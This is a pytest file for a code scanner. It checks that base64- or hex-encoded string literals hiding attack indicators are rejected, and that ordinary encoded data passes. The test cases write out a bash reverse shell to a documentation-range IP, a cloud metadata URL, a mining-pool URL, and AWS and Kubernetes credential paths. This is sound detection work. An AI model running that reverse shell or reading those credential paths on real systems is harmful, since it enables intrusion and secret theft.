"""String literals that decode to an indicator are rejected; ordinary encoded data is not."""

from __future__ import annotations

import base64

import pytest

from sless.validation.report import Verdict
from sless.validation.text_checks import scan_text


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("source", "indicator"),
    [
        (f'POOL = "{b"stratum+tcp://pool.example:3333".hex()}"\n', "stratum+tcp://"),
        (f"const u = '{_b64('http://169.254.169.254/latest/meta-data/')}';\n", "169.254.169.254"),
        (f"s = `{_b64('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')}`\n", "/dev/tcp/"),
        (
            f'p = "{base64.urlsafe_b64encode(b"~/.aws/credentials??>>").decode()}"\n',
            ".aws/credentials",
        ),
        (f'x = "{b"/VAR/RUN/SECRETS/KUBERNETES.IO/token".hex().upper()}"\n', "kubernetes.io"),
    ],
)
def test_encoded_indicator_is_rejected(source: str, indicator: str) -> None:
    findings = scan_text("handler.py", ("\n" * 3 + source).encode())
    assert [f.rule for f in findings] == ["encoded-indicator"]
    assert findings[0].severity is Verdict.REJECT
    assert findings[0].line == 4
    assert indicator in findings[0].message


@pytest.mark.parametrize(
    "source",
    [
        'DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"\n',
        "PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
        "kgAAAABJRU5ErkJggg=='\n",
        f'GREETING = "{_b64("hello from the docs example, nothing to see")}"\n',
        'ID = "0123456789abcdef0123456789abcdef"\nNAME = "averyLongIdentifierName"\n',
    ],
)
def test_ordinary_encoded_data_passes(source: str) -> None:
    assert scan_text("handler.py", source.encode()) == []
